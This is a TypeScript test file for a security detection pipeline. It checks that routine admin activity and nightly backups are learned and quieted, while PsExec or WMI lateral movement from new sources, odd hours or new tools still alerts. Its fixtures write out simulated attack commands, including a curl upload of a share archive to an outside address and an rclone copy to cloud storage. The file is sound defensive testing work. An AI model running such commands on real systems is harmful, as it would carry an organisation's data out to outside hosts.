import type { AlertDoc } from '../../../common/alert';
import type { Event } from '../../../common/event';
import type { DetectionConfigInput } from '../config';
import { adminShareWrite, at, logon, processStart, serviceInstall } from '../detectors/test_events';
import { DetectionPipeline } from '../pipeline';
import { loadRules } from '../rules/engine';
import { BURST_RULE_ID } from './bursts';

/**
 * Both sides of the learned-administration suppression: the routine (a jump host administering servers, a nightly
 * upload) goes quiet, and every deviation from it (new source, account new to the source, unusual hour, another
 * destination or tool) still alerts. Also one alert per burst of remote activity.
 */

const rules = loadRules();
const DAY = 86_400;
const T0 = '2025-03-05T10:00:00.000Z';
const JUMP_IP = '10.0.1.5';
const ANN_WS_IP = '10.0.2.20';

function pipeline(config: DetectionConfigInput = {}): DetectionPipeline {
  return new DetectionPipeline({ config, rules });
}

async function run(p: DetectionPipeline, events: Event[]): Promise<AlertDoc[]> {
  return [...(await p.processBatch(events)).alerts, ...(await p.flush()).alerts];
}

/** A logon recorded on `host` (whose own address is `hostIp`), as Winlogbeat ships it with host.ip. */
function logonOn(
  time: string,
  host: string,
  hostIp: string,
  opts: { user: string; ip: string; type: number },
): Event {
  const ev = logon(time, { host, ...opts });
  ev.host.ip = [hostIp];
  return ev;
}

/** Target side of a PsExec: network logon, PSEXESVC.exe written to ADMIN$, service install, the command it runs. */
function psexecOnto(time: string, host: string, user: string, fromIp: string): Event[] {
  return [
    logonOn(time, host, `10.0.9.${host.length}`, { user, ip: fromIp, type: 3 }),
    adminShareWrite(at(time, 1), host, user, fromIp, 'PSEXESVC.exe'),
    serviceInstall(at(time, 2), host, 'PSEXESVC', '%SystemRoot%\\PSEXESVC.exe'),
    processStart(
      at(time, 3),
      host,
      'C:\\Windows\\System32\\cmd.exe',
      'cmd /c "gpupdate /force"',
      user,
      'C:\\Windows\\PSEXESVC.exe',
    ),
  ];
}

/** Target side of WMI execution: network logon, then a process started by WmiPrvSE. */
function wmiOnto(time: string, host: string, user: string, fromIp: string): Event[] {
  return [
    logonOn(time, host, '10.0.9.99', { user, ip: fromIp, type: 3 }),
    processStart(
      at(time, 1),
      host,
      'C:\\Windows\\System32\\cmd.exe',
      'cmd.exe /c whoami',
      user,
      'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
    ),
  ];
}

/** Day one: ann works on the jump host (RDP in from her workstation) and administers three servers from it. */
function jumpHostDay(start: string, user = 'adm-ann', wsIp = ANN_WS_IP): Event[] {
  return [
    logonOn(start, 'jump01', JUMP_IP, { user, ip: wsIp, type: 10 }),
    logonOn(at(start, 60), 'srv01', '10.0.9.1', { user, ip: JUMP_IP, type: 10 }),
    ...psexecOnto(at(start, 600), 'srv02', user, JUMP_IP),
    logonOn(at(start, 1200), 'srv03', '10.0.9.3', { user, ip: JUMP_IP, type: 10 }),
  ];
}

const bursts = (alerts: AlertDoc[]): AlertDoc[] => alerts.filter((a) => a.rule.id === BURST_RULE_ID);

describe('learned admin practice (jump host)', () => {
  it('is quiet when the jump host administers a server it never reached, for an account that works there', async () => {
    const p = pipeline();
    expect((await run(p, jumpHostDay(T0))).length).toBeGreaterThan(0);
    const quiet = await run(p, [
      logonOn(at(T0, DAY), 'jump01', JUMP_IP, { user: 'adm-ann', ip: ANN_WS_IP, type: 10 }),
      ...psexecOnto(at(T0, DAY + 600), 'srv09', 'adm-ann', JUMP_IP),
    ]);
    expect(quiet).toEqual([]);
  });

  it('alerts when the same account reaches the server from a new source', async () => {
    const p = pipeline();
    await run(p, jumpHostDay(T0));
    const alerts = await run(p, psexecOnto(at(T0, DAY + 600), 'srv09', 'adm-ann', '10.0.3.33'));
    expect(bursts(alerts)).toHaveLength(1);
    expect(bursts(alerts)[0].apt.technique_ids).toEqual(expect.arrayContaining(['T1569.002', 'T1570']));
  });

  it('alerts when an account never seen on the jump host uses it', async () => {
    const p = pipeline();
    await run(p, jumpHostDay(T0));
    const alerts = await run(p, psexecOnto(at(T0, DAY + 600), 'srv09', 'adm-eve', JUMP_IP));
    expect(bursts(alerts)).toHaveLength(1);
    expect(bursts(alerts)[0].apt.explanation).toMatch(/adm-eve/);
  });

  it('alerts outside the hours the jump host works in', async () => {
    const p = pipeline();
    await run(p, jumpHostDay(T0));
    // 03:00 UTC: the jump host has only ever worked around 10:00.
    const night = at(T0, DAY + 17 * 3600);
    const alerts = await run(p, psexecOnto(night, 'srv09', 'adm-ann', JUMP_IP));
    expect(bursts(alerts)).toHaveLength(1);
  });

  it('does not learn a workstation that only reaches file shares as an admin source', async () => {
    const p = pipeline();
    const shares: Event[] = [];
    for (const [i, fs] of ['fs01', 'fs02', 'fs03', 'fs04'].entries())
      shares.push(
        logonOn(at(T0, i * 60), fs, `10.0.9.${20 + i}`, { user: 'adm-ann', ip: ANN_WS_IP, type: 3 }),
      );
    await run(p, shares);
    const alerts = await run(p, psexecOnto(at(T0, DAY + 600), 'srv09', 'adm-ann', ANN_WS_IP));
    expect(bursts(alerts)).toHaveLength(1);
  });

  it('alerts on everything when learning practice is off', async () => {
    const p = pipeline({ suppression: { adminPaths: { learnPractice: false } } });
    await run(p, jumpHostDay(T0));
    const alerts = await run(p, psexecOnto(at(T0, DAY + 600), 'srv09', 'adm-ann', JUMP_IP));
    expect(bursts(alerts)).toHaveLength(1);
  });
});

describe('one alert per burst of remote activity', () => {
  it('groups the findings of one PsExec into one alert listing every technique and rule', async () => {
    const alerts = await run(pipeline(), psexecOnto(T0, 'srv01', 'mallory', '10.0.0.66'));
    expect(alerts).toHaveLength(1);
    const [a] = alerts;
    expect(a.rule.id).toBe(BURST_RULE_ID);
    expect(a.apt.technique_ids).toEqual(
      expect.arrayContaining(['T1021.002', 'T1543.003', 'T1569.002', 'T1570']),
    );
    expect(a.apt.explanation).toMatch(/10\.0\.0\.66 reached srv01 as mallory/);
    expect(a.apt.explanation).toMatch(/PsExec-style/);
    expect(a.apt.evidence.length).toBeGreaterThanOrEqual(3);
  });

  it('keeps separate sources apart, and alerts again when a source adds a new technique', async () => {
    const p = pipeline();
    const first = await run(p, [
      ...psexecOnto(T0, 'srv01', 'mallory', '10.0.0.66'),
      ...psexecOnto(at(T0, 5), 'srv02', 'trent', '10.0.0.77'),
    ]);
    expect(bursts(first)).toHaveLength(2);
    // Twenty minutes later the first source does the same to another server: counted, not alerted...
    const same = await run(p, psexecOnto(at(T0, 1200), 'srv03', 'mallory', '10.0.0.66'));
    expect(same).toEqual([]);
    // ...but WMI execution from it is a new technique and alerts.
    const wmi = await run(p, wmiOnto(at(T0, 1500), 'srv04', 'mallory', '10.0.0.66'));
    expect(wmi.length).toBeGreaterThan(0);
    expect(wmi.flatMap((a) => a.apt.technique_ids)).toContain('T1047');
  });

  it('follows one account hopping on: workstation -> jump host -> server is one alert', async () => {
    const alerts = await run(pipeline(), [
      logonOn(T0, 'jump01', JUMP_IP, { user: 'adm-bob', ip: '10.0.2.30', type: 10 }),
      logonOn(at(T0, 60), 'srv05', '10.0.9.5', { user: 'adm-bob', ip: JUMP_IP, type: 10 }),
    ]);
    expect(alerts).toHaveLength(1);
    expect(alerts[0].apt.explanation).toMatch(/jump01, srv05 as adm-bob/);
  });

  it('alerts per rule when grouping is off', async () => {
    const alerts = await run(
      pipeline({ suppression: { bursts: { enabled: false } } }),
      psexecOnto(T0, 'srv01', 'mallory', '10.0.0.66'),
    );
    expect(alerts.length).toBeGreaterThan(2);
    expect(bursts(alerts)).toEqual([]);
  });
});

describe('learned routine (scheduled jobs)', () => {
  const archive = (time: string, tool = 'C:\\Program Files\\7-Zip\\7z.exe'): Event =>
    processStart(
      time,
      'bkp01',
      tool,
      `"${tool}" a E:\\Backups\\shares.7z \\\\fs01\\Departments`,
      'svc-backup',
    );
  const upload = (time: string, tool = 'C:\\Tools\\rclone.exe'): Event =>
    processStart(
      time,
      'bkp01',
      tool,
      tool.endsWith('curl.exe')
        ? `"${tool}" -T E:\\Backups\\shares.7z https://203.0.113.9/up`
        : `"${tool}" copy E:\\Backups\\shares.7z mega:backup`,
      'svc-backup',
    );
  const night = (day: number, hour = 1, tool?: string): Event[] => {
    const t = at(T0, day * DAY + (hour - 10) * 3600);
    return [archive(t), upload(at(t, 300), tool)];
  };
  const exfil = (alerts: AlertDoc[]): number =>
    alerts.filter((a) => a.rule.id === 'apt.behaviour.exfiltration').length;

  it('alerts on the first nightly upload and learns the next ones at the same hour as routine', async () => {
    const p = pipeline();
    expect(exfil(await run(p, night(1)))).toBe(1);
    expect(exfil(await run(p, night(2)))).toBe(0);
    expect(exfil(await run(p, night(3)))).toBe(0);
  });

  it('alerts when the upload runs at another hour or with another tool', async () => {
    const p = pipeline();
    await run(p, night(1));
    expect(exfil(await run(p, night(2, 14)))).toBe(1);
    expect(exfil(await run(p, night(3, 1, 'C:\\Users\\Public\\curl.exe')))).toBe(1);
  });

  it('never learns the listed severities', async () => {
    const p = pipeline({ suppression: { routine: { neverSeverities: ['high', 'critical'] } } });
    await run(p, night(1));
    expect(exfil(await run(p, night(2)))).toBe(1);
  });
});
